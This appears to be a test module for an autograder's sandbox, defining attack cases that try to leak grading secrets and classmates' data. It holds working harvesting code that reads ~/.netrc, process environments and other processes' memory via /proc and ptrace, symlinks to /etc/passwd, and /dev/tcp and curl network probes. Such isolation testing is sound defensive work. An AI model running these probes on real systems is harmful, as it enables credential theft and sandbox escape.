"""Leaks: what tests, classmates, the gradebook and the grader know is looked for wherever a process can look."""

from pathlib import Path

from tests.attacks.attack import Attack
from tests.attacks.target import wrong

# Prints every canary in the bytes it is given. The pattern is put together here, so that it does not find itself.
SEARCH = """
import re
pattern = re.compile(rb"cana" + rb"ry-[a-z]+-[0-9a-f]{8}|77C1A9F3-TU" + rb"PNI-YRANAC")
def search(data):
    for found in sorted(set(pattern.findall(data if isinstance(data, bytes) else str(data).encode()))):
        print("found".upper(), found.decode())
"""


def calling(expression: str) -> dict[str, str]:
    """An answer that does something while it is being checked."""
    return {"cipher": f"def cipher(text):\n    {expression}\n    return '?'"}


ATTACKS = [
    Attack(
        "disk",
        first=SEARCH
        + """
import os, sys, time
def walk(top, seconds):
    end = time.time() + seconds
    for folder, folders, names in os.walk(top):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "lib", "lib64", "share", "node_modules")]
        for name in names:
            if time.time() > end: return
            if name.endswith((".md", ".ipynb", ".db", ".py", ".txt", ".json", ".netrc", ".sqlite", ".html")):
                try: search(open(os.path.join(folder, name), "rb").read(2_000_000))
                except OSError: pass
for top in ("@COURSE@", os.path.expanduser("~"), "/root", "/home", "/work", "/srv", "/mnt", "/tmp", "/var/tmp", "/run"):
    walk(top, 2)
import nnkit
walk(os.path.dirname(os.path.dirname(nnkit.__file__)), 4)
""",
    ),
    Attack(
        "neighbors-on-the-disk",
        first=SEARCH
        + """
import glob, os, sqlite3
for name in glob.glob("@COURSE@/**/*", recursive=True) + glob.glob("../*") + glob.glob("../../*/*/*")[:1000]:
    if "@COURSE@" in os.path.realpath(name): print("breach".upper(), name)
    try: search(open(name, "rb").read())
    except OSError: pass
for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
    try:
        book = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        search(book.execute("select * from student").fetchall())
        search(book.execute("select source from source_cell").fetchall())
    except sqlite3.Error: pass
""",
    ),
    Attack(
        "environment",
        first=SEARCH
        + """
import glob, os
search(os.environ)
for name in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try: search(open(name, "rb").read())
    except OSError: pass
""",
        last="!env; cat /proc/*/environ ~/.netrc ~/*; ps -ef",
    ),
    Attack(
        "stack",
        calling("look()"),
        first=SEARCH
        + """
import inspect, sys
def look():
    frame = sys._getframe()
    while frame:
        search(frame.f_locals); search(frame.f_globals); search(frame.f_code.co_consts)
        frame = frame.f_back
    for record in inspect.stack(context=50):
        search(record.code_context)
""",
    ),
    Attack(
        "garbage-collector",
        calling("look()"),
        first=SEARCH
        + """
import gc, linecache, sys
def look():
    search(linecache.cache)
    for found in gc.get_objects():
        try:
            if isinstance(found, dict): search(list(dict.values(found)))
            elif hasattr(found, "__code__"): search(found.__code__.co_consts)
            elif isinstance(found, (list, tuple)): search(found)
        except Exception: pass
""",
        last="look()",
    ),
    Attack(
        "history",
        last=SEARCH
        + """
import glob, os
shell = get_ipython()
search(list(globals().get("In", []))); search(globals().get("Out", {}))
search(shell.history_manager.input_hist_raw if shell.history_manager else "")
%history -g
for name in glob.glob(os.path.expanduser("~/.ipython/**/*.sqlite"), recursive=True):
    search(open(name, "rb").read())
""",
    ),
    Attack(
        "own-memory",
        calling("look()"),
        first=SEARCH
        + """
def look(pid="self"):
    try: lines, memory = open(f"/proc/{pid}/maps").readlines(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError: return
    if pid != "self": print("breach".upper(), "memory of", pid)
    for line in lines[:2_000]:
        span, rights = line.split()[:2]
        start, end = (int(x, 16) for x in span.split("-"))
        if rights.startswith("rw") and end - start < 2**27:
            try: memory.seek(start); search(memory.read(end - start))
            except (OSError, OverflowError, ValueError): pass
""",
    ),
    Attack(
        "memory-of-others",
        calling("look()"),
        first=SEARCH
        + """
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
def look():
    mine = {os.getpid()}
    for name in glob.glob("/proc/[0-9]*"):
        pid = int(name[6:])
        if pid in mine: continue
        for part in ("maps", "environ", "cwd", "root", "fd"):
            try: (os.readlink if part in ("cwd", "root") else os.listdir if part == "fd" else open)(f"{name}/{part}")
            except OSError: continue
            # Only what belongs to the same sandbox may be seen, and there is nothing to see but libraries.
        try:
            with open(f"{name}/mem", "rb", 0) as memory:
                for line in open(f"{name}/maps").readlines()[:500]:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if " rw" in line and end - start < 2**26:
                        memory.seek(start); search(memory.read(end - start))
        except (OSError, OverflowError, ValueError): pass
        if libc.ptrace(16, pid, 0, 0) == 0: libc.ptrace(17, pid, 0, 0)
""",
    ),
    Attack(
        "inherited-descriptors",
        first=SEARCH
        + """
import os, stat
for number in range(3, 1024):
    try: kind = os.fstat(number).st_mode
    except OSError: continue
    if stat.S_ISREG(kind) or stat.S_ISDIR(kind):
        where = os.readlink(f"/proc/self/fd/{number}")
        try: search(os.pread(number, 10**7, 0))
        except OSError: pass
        if "@COURSE@" in where: print("breach".upper(), where)
        try: os.chdir(f"/proc/self/fd/{number}/.."); print(os.listdir("."))
        except OSError: pass
""",
    ),
    Attack(
        "callback",
        {
            "minimize": """
def minimize(slope, start, steps):
    for name in ("__closure__", "__globals__", "__code__", "__defaults__", "__self__", "__func__", "__dict__",
                 "__wrapped__", "__doc__", "__init__", "__reduce__", "__class__", "cell_contents", "gi_frame"):
        try: look(getattr(slope, name))
        except Exception as error: look(error)
    try: look(inspect.getsource(slope))
    except Exception: pass
    for cell in getattr(slope, "__closure__", None) or ():
        if isinstance(cell.cell_contents, float): return cell.cell_contents
    return 0.123
"""
        },
        first=SEARCH
        + """
import inspect
def look(value):
    search(value)
    for name in ("co_consts", "__globals__", "__dict__"):
        search(getattr(value, name, ""))
""",
    ),
    Attack(
        "exception-through-a-callback",
        {
            "minimize": """
def minimize(slope, start, steps):
    for argument in ("x", None, [], object(), slope, ValueError):
        try: slope(argument)
        except BaseException as error:
            search(error); search(error.args)
            trace = error.__traceback__
            while trace:
                search(trace.tb_frame.f_globals); search(trace.tb_frame.f_locals); trace = trace.tb_next
            search("".join(traceback.format_exception(error)))
    try: slope()
    except TypeError as error: search(error)
    return 0.123
"""
        },
        first=SEARCH + "import traceback",
    ),
    Attack(
        "operators-that-listen",
        {
            "distance": "def distance(a, b):\n    return Ear()",
            "cipher": "def cipher(text):\n    return Ear()",
            "neuron": """
class Neuron:
    mistakes = 1
    def __init__(self, inputs): self.weights = self.bias = self
    def learn(self, x, label): pass
    def predict(self, x): return 1
    def score(self, x): return Ear()
    def __sub__(self, other): heard.append(other); return 0.0
    def __eq__(self, other): heard.append(other); return True
    __rsub__, __hash__ = __sub__, object.__hash__
""",
        },
        first="""
heard = []
class Ear:
    def __eq__(self, other): heard.append(other); return False
    def __sub__(self, other): heard.append(other); return 1.0
    def __array_ufunc__(self, function, method, *inputs, **keywords): heard.append(inputs); return 1.0
    __rsub__ = __sub__
""",
        last="""
for value in heard:
    print("heard".upper(), value)
""",
        never=("HEARD",),
    ),
    Attack(
        # The arguments of hidden tests are theirs. A later cell, an exception, or a print could carry them out.
        "arguments-told-by-a-later-cell",
        {"cipher": "def cipher(text):\n    heard.append(text)\n    return text[::-1].upper()"},
        deserved={"cipher": 1.0},
        first="heard = []",
        last="print(heard)",
    ),
    Attack(
        "arguments-told-by-printing",
        {"cipher": "def cipher(text):\n    print(text); display(text); open('note', 'a').write(text)"},
        last="print(open('note').read())",
    ),
    Attack(
        "arguments-told-by-an-exception",
        {"cipher": "def cipher(text):\n    if len(text) > 3: raise ValueError(f'given {text}')\n    return 'CBA'"},
    ),
    Attack(
        "markers-of-hidden-tests",
        {
            "cipher": """
def cipher(text):
    raise AssertionError("### END HIDDEN TESTS\\n### BEGIN HIDDEN TESTS\\nTraceback (most recent call last)\\n")
"""
        },
        first="### END HIDDEN TESTS\n### BEGIN HIDDEN TESTS\n### END SOLUTION\nprint('### BEGIN HIDDEN TESTS')",
    ),
    Attack(
        "the-grader-as-a-library",
        first=SEARCH
        + """
import importlib, pkgutil, sys
from pathlib import Path
for name in ("autograder.book.gradebook", "autograder.assignment", "autograder.build.source", "nbgrader.api"):
    try: search(vars(importlib.import_module(name)))
    except Exception: pass
for path in {Path(p) for p in sys.path} | {Path(m.__file__).parent for m in list(sys.modules.values())
                                           if getattr(m, "__file__", None) and "nnkit" in m.__name__}:
    for top in (path, *path.parents[:2]):
        for pattern in ("solutions/*", "tests/attacks/*", "gradebook.db"):
            for found in top.glob(pattern) if str(top) != "/" else ():
                print("breach".upper(), found)
                if found.is_file(): search(found.read_bytes())
""",
    ),
    Attack(
        "network",
        first="""
import socket, subprocess, urllib.request
def attempt(what, action):
    try: action()
    except Exception as error: print("no", what, type(error).__name__)
    else: print("breach".upper(), what)
def abstract():
    line = socket.socket(socket.AF_UNIX); line.settimeout(1); line.connect("\\0@MARK@"); line.send(b"hello")
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", @PORT@), 1).send(b"hello"))
attempt("abstract socket", abstract)
attempt("http", lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1))
attempt("dns", lambda: socket.getaddrinfo("example.com", 80))
attempt("internet", lambda: socket.create_connection(("1.1.1.1", 53), 1))
""",
        last="!curl --max-time 2 http://127.0.0.1:@PORT@/shell; echo hello > /dev/tcp/127.0.0.1/@PORT@",
    ),
    *(
        # Each leaves a note wherever it can write, and looks for the note of the other.
        Attack(
            f"dead-drop-{me}",
            first=f"""
import os, tempfile
places = ["/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), tempfile.gettempdir(), os.getcwd(), "..",
          "@COURSE@", "/dev/mqueue", "/run/lock", "/run/user/0"]
for place in places:
    for name in os.listdir(place) if os.path.isdir(place) and os.access(place, os.R_OK) else ():
        if name.startswith("@MARK@") and not name.endswith("{me}"): print("breach".upper(), place, name)
    try: open(os.path.join(place, "@MARK@-{me}"), "w").write("{me} was here")
    except OSError: pass
!ipcmk -M 4096 > /dev/null 2>&1; ipcs -m | grep 4096 | wc -l | grep -vx 1 | sed 's/^/shared memory segments: /'
""",
        )
        for me in ("one", "two")
    ),
    Attack(
        "links-to-others",
        first=SEARCH
        + """
import os
for name in ("classmate.ipynb", "gradebook.db", "course/gradebook.db", "passwd", "chain"):
    if os.path.exists(name):
        print("breach".upper(), name); search(open(name, "rb").read())
""",
        files={
            "classmate.ipynb": lambda path: path.symlink_to("../../ada/90_target/90_target.ipynb"),
            "gradebook.db": lambda path: path.symlink_to("../../../gradebook.db"),
            "course": lambda path: path.symlink_to("../../.."),
            "passwd": lambda path: path.symlink_to("/etc/passwd"),
            "chain": lambda path: path.symlink_to("chain"),
        },
        refusable=True,
    ),
    Attack(
        "the-notebook-is-a-link",
        wrong(),
        files={"90_target.ipynb": lambda path: Path(path).symlink_to("../../ada/90_target/90_target.ipynb")},
        refusable=True,
    ),
    Attack(
        "a-hard-link-of-a-name",
        files={
            "..data\\..\\ada.txt": b"a name from another system",
            "-rf": b"a name like an option",
            "a\nb": b"a name in two lines",
            "x" * 250: b"a long name",
            "/".join(["deep"] * 60 + ["file"]): b"a deep folder",
        },
    ),
]
